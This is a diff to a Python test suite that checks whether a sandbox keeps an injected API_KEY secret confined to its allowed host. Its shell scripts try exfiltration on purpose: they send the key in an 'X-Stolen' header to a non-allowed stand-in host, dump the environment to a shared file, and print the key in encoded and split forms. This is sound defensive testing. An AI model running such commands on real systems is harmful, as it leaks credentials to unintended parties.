@@ -8,6 +8,7 @@ import secrets
 import signal
 import subprocess
 import tempfile
+import time
 import urllib.parse
 
 from client_cases import bundle, policy, rows, run, said, start_arguments
@@ -34,14 +35,15 @@ def find(value, places):
     return [f"{name}: {form}" for name, content in places for form, text in forms(value).items() if text in content]
 
 
-def files(*roots):
+def files(*roots, since=0.0):
+    """Every file: its name, and what it holds unless it is older than `since`."""
     for root in roots:
         for directory, _, names in os.walk(root):
             for name in names:
                 path = os.path.join(directory, name)
                 yield path, path.encode("utf-8", "replace")
                 try:
-                    if os.path.isfile(path) and not os.path.islink(path):
+                    if os.path.isfile(path) and not os.path.islink(path) and os.stat(path).st_ctime >= since:
                         with open(path, "rb") as file:
                             yield path, file.read()
                 except (FileNotFoundError, ProcessLookupError):
@@ -107,18 +109,24 @@ say echo sh -c 'curl -sSi -m 20 -H "Authorization: Bearer $API_KEY" "$CODEBOX_EG
 say json sh -c 'curl -sS -m 20 -H "Authorization: Bearer $API_KEY" "$CODEBOX_EGRESS_URL/https/allowed.test/echo-json" | tee -a echo.txt | head -n 1'
 say away web -H "X-Stolen: $API_KEY" "$CODEBOX_EGRESS_URL/https/other.test/away"
 cat echo.txt; env > /workspace/plugin/environment.txt; cp echo.txt /workspace/plugin/
-say hold web "$CODEBOX_EGRESS_URL/https/allowed.test/hold"
+say hold web -m 90 "$CODEBOX_EGRESS_URL/https/allowed.test/hold"
 """
 ALLOW = ["--allow-host", "allowed.test", "--allow-host", "other.test"]
 
 
 def the_value_reaches_its_host_and_nothing_else(bench):
+    # The bundles of other suites lie there too, and reading them all takes longer than the guest waits. A file
+    # that this run wrote is younger than it; the clock of files lags behind the other one by up to a tick.
+    began = time.time() - 1
+
     def look(process):
         pids = family(process.pid)
         must(len(pids) >= 5, f"runner, launcher and guest are expected, there are {pids}")
         control = find(VALUE, processes([process.pid]))
         # The caller's own process was given the value in its environment by whoever started it.
-        places = list(processes(pid for pid in pids if pid != process.pid)) + list(files(os.path.join(bench.state, "sites")))
+        written = list(files(os.path.join(bench.state, "sites"), since=began))
+        must(any(bench.site in name and not name.encode() == content for name, content in written), "nothing that this run wrote was read")
+        places = list(processes(pid for pid in pids if pid != process.pid)) + written
         inside = [pid for pid in pids if elsewhere(pid)]
         must(inside, "no process of the guest was found")
         places += guest_files(inside[-1])
@@ -165,7 +173,7 @@ printf 'raw %s\n' "$API_KEY"; printf %s "$API_KEY" | base64; printf 'x%s' "$API_
 php -r 'echo json_encode( getenv( "API_KEY" ) ), "\n", rawurlencode( getenv( "API_KEY" ) ), "\n", bin2hex( getenv( "API_KEY" ) ), "\n";'
 head -c 65520 /dev/zero | tr '\0' a; printf '%s' "$API_KEY"; echo
 printf '%s' "$API_KEY" | head -c 10; sleep 0.3; printf '%s\n' "$API_KEY" | tail -c +11
-say hold web "$CODEBOX_EGRESS_URL/https/allowed.test/hold"
+say hold web -m 90 "$CODEBOX_EGRESS_URL/https/allowed.test/hold"
 """
     def look(process):
         return find(VALUE, processes(pid for pid in family(process.pid) if pid != process.pid))
@@ -221,7 +229,7 @@ def nobody_of_the_same_user_may_look_into_the_runner(bench):
     hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
     resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
     try:
-        _, (answers, left) = during(bench, 'say hold web "$CODEBOX_EGRESS_URL/https/allowed.test/hold"', look, *ALLOW,
+        _, (answers, left) = during(bench, 'say hold web -m 90 "$CODEBOX_EGRESS_URL/https/allowed.test/hold"', look, *ALLOW,
                                      "--secret-env", "API_KEY=allowed.test", environment={"API_KEY": VALUE}, user=user)
         # Control: the same signal makes a core file of an ordinary process of the same user here.
         subprocess.run([*user, "sh", "-c", "kill -ABRT $$"], check=False)
